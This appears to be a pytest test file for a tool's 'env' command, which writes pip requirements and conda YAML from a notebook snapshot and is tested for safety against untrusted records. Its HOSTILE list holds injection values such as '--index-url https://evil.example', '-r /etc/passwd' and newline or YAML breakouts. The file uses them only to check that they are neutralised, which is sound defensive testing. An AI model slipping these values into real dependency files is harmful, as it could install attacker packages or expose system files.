"""`nbsnap env`: files that pip and conda read, made of a record that may be anybody's."""

from __future__ import annotations

import dataclasses
import json
import re
from pathlib import Path

import pytest
from packaging.requirements import Requirement  # pytest itself needs it

import nbsnap
from nbsnap import recreating
from nbsnap.model import Distribution, LocalModule
from nbsnap.store import Store

LINE = re.compile(
    r"#.*|[A-Za-z0-9][A-Za-z0-9._-]*(?:==[A-Za-z0-9.!]+(?:  # .*)?| @ (?:https|git\+https)://\S+)", re.ASCII
)


@pytest.fixture
def record(own_folder: Path) -> nbsnap.model.Snapshot:
    """A snapshot with packages of every kind, of which the variables need some."""
    nbsnap.snapshot({"x": 1}, name="before train", notebook="n", store=".nbsnap")
    with Store.open(".nbsnap") as store:
        found = store.find("latest", "n")
    group = dataclasses.replace(found.groups[0], modules=("numpy", "sklearn", "torch", "mine", "tool", "url", "work"))
    return dataclasses.replace(
        found,
        groups=(group, *found.groups[1:]),
        distributions=(
            Distribution("mine", "0.3", ("mine",), "editable", "file:///home/me/mine"),
            Distribution("numpy", "2.4.6", ("numpy",), "conda", "conda-forge"),
            Distribution("scikit-learn", "1.6.1", ("sklearn",)),
            Distribution("tool", "1.0", ("tool",), "vcs", "git+https://example.org/tool.git@0123abc#subdirectory=py"),
            Distribution("torch", "2.4.0+cu121", ("torch",)),
            Distribution("tornado", "6.5", ("tornado",)),
            Distribution("url", "1.0", ("url",), "archive", "https://example.org/url-1.0.tar.gz"),
            Distribution("work", "1.0", ("work",), "local", "file:///tmp/work.whl"),
        ),
        local=(LocalModule("helpers", "src/helpers.py", 3, ""),),
    )  # fmt: skip


def test_requirements(record):
    """What variables need, pinned; addresses as such; what cannot be installed elsewhere, as a comment."""
    lines = recreating.requirements(record).splitlines()
    assert [line for line in lines if not line.startswith("#")] == [
        "numpy==2.4.6",
        "scikit-learn==1.6.1",
        "tool @ git+https://example.org/tool.git@0123abc#subdirectory=py",
        "torch==2.4.0  # was 2.4.0+cu121, a build that indexes do not have",
        "url @ https://example.org/url-1.0.tar.gz",
    ]
    assert "# mine 0.3 was installed in editable mode: file:///home/me/mine" in lines
    assert "#   src/helpers.py: helpers" in lines
    assert "tornado==6.5" in recreating.requirements(record, every=True).splitlines()
    assert all(LINE.fullmatch(line) for line in lines)


def test_what_somebody_else_has_made(record):
    """Of a snapshot that this user has not signed no address is written, and the first lines say whose choice it is."""
    text = recreating.requirements(record, own=False)
    assert " @ " not in text
    assert "# tool 1.0 was installed from an address: git+https://example.org" in text
    assert text.splitlines()[1].startswith("# THIS SNAPSHOT WAS NOT MADE BY YOU")


def test_conda(record):
    """Python, the channel, what conda had installed, and the rest by pip; it is YAML."""
    text = recreating.conda(record)
    lines = text.splitlines()
    assert 'name: "before-train"' in lines
    assert lines[lines.index("channels:") + 1] == '  - "conda-forge"'
    assert '  - "numpy==2.4.6"' in lines
    at = lines.index("  - pip:")
    assert '    - "scikit-learn==1.6.1"' in lines[at:]
    assert '    - "torch==2.4.0"  # was 2.4.0+cu121, a build that indexes do not have' in lines[at:]


HOSTILE = [
    "numpy\n--index-url https://evil.example",
    "-r /etc/passwd",
    "--extra-index-url=https://evil.example",
    "numpy; os_name != ''\nevil",
    "numpy @ https://evil.example/x",
    "numpy\\",
    "numpy\r\nevil",
    "numpy\u2028evil",
    "numpy #",
    "../numpy",
    "${HOME}",
    'x"\n  - "evil',
    "",
    "a" * 5000,
    "nümpy",
    "1.0\\",
    "1.0 --hash=sha256:00",
    "\x1b[31m",
    "1.0'" + "\\" * 300,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_record_adds_no_line(record, text):
    """Names, versions, addresses, paths and messages that are none become comments; every line is what it says."""
    bad = dataclasses.replace(
        record,
        head=dataclasses.replace(record.head, name=text, python=text, platform=text),
        distributions=(
            Distribution(text, "1.0", ("numpy",)),
            Distribution("fine", text, ("numpy",)),
            Distribution("fine", "1.0", ("numpy",), "vcs", text),
            Distribution("fine", "1.0", ("numpy",), "vcs", f"git+https://example.org/{text}"),
            Distribution("fine", "1.0", ("numpy",), text, text),
            Distribution("fine", "1.0", ("numpy",), "conda", text),
            Distribution("last", "1.0", ("numpy",)),
        ),
        local=(LocalModule(text, text, 1, ""),),
    )
    lines = recreating.requirements(bad).split("\n")
    assert lines.pop() == ""
    for line in lines:
        assert LINE.fullmatch(line), line
        assert not line.endswith("\\")
    asked = [line for line in lines if not line.startswith("#")]
    assert {line.partition("==")[0].partition(" @ ")[0] for line in asked} <= {"fine", "last"}
    assert asked[-1] == "last==1.0"
    for line in asked:
        Requirement(line.partition("  #")[0])
    conda = recreating.conda(bad).split("\n")
    assert all(re.fullmatch(r"|name: \"[\w-]+\"|channels:|dependencies:|\s*- .*|\s*#.*", line) for line in conda)


def test_a_channel_that_nobody_knows_is_a_comment_in_what_is_not_ones_own(record):
    """Conda takes every package from the channels that a file names, not only the one that is said to be from there."""
    other = dataclasses.replace(
        record, distributions=(Distribution("numpy", "2.4.6", ("numpy",), "conda", "other-channel"),)
    )
    assert '  - "other-channel"' in recreating.conda(other, own=True).splitlines()
    lines = recreating.conda(other, own=False).splitlines()
    assert [line for line in lines if "channel" in line] == ["channels:", '  # - "other-channel"']
    assert '  - "conda-forge"' in lines


def test_from_the_command_line(cli, own_folder):
    """It is printed, or written to a file whose ending says what it is; --json and a name that is not there."""
    nbsnap.snapshot({"x": 1}, name="one", notebook="a.ipynb", store=".nbsnap")
    said = cli("env", "one").out
    assert said.startswith("# What the variables need, of the snapshot one (")
    assert cli("env", "-o", "environment.yml").out == ""
    assert "dependencies:" in Path("environment.yml").read_text()
    assert cli("env", "--json").json["python"] == json.loads(cli("env", "--format", "json").out)["python"]
    assert cli("env", "two", ok=False).code == 3
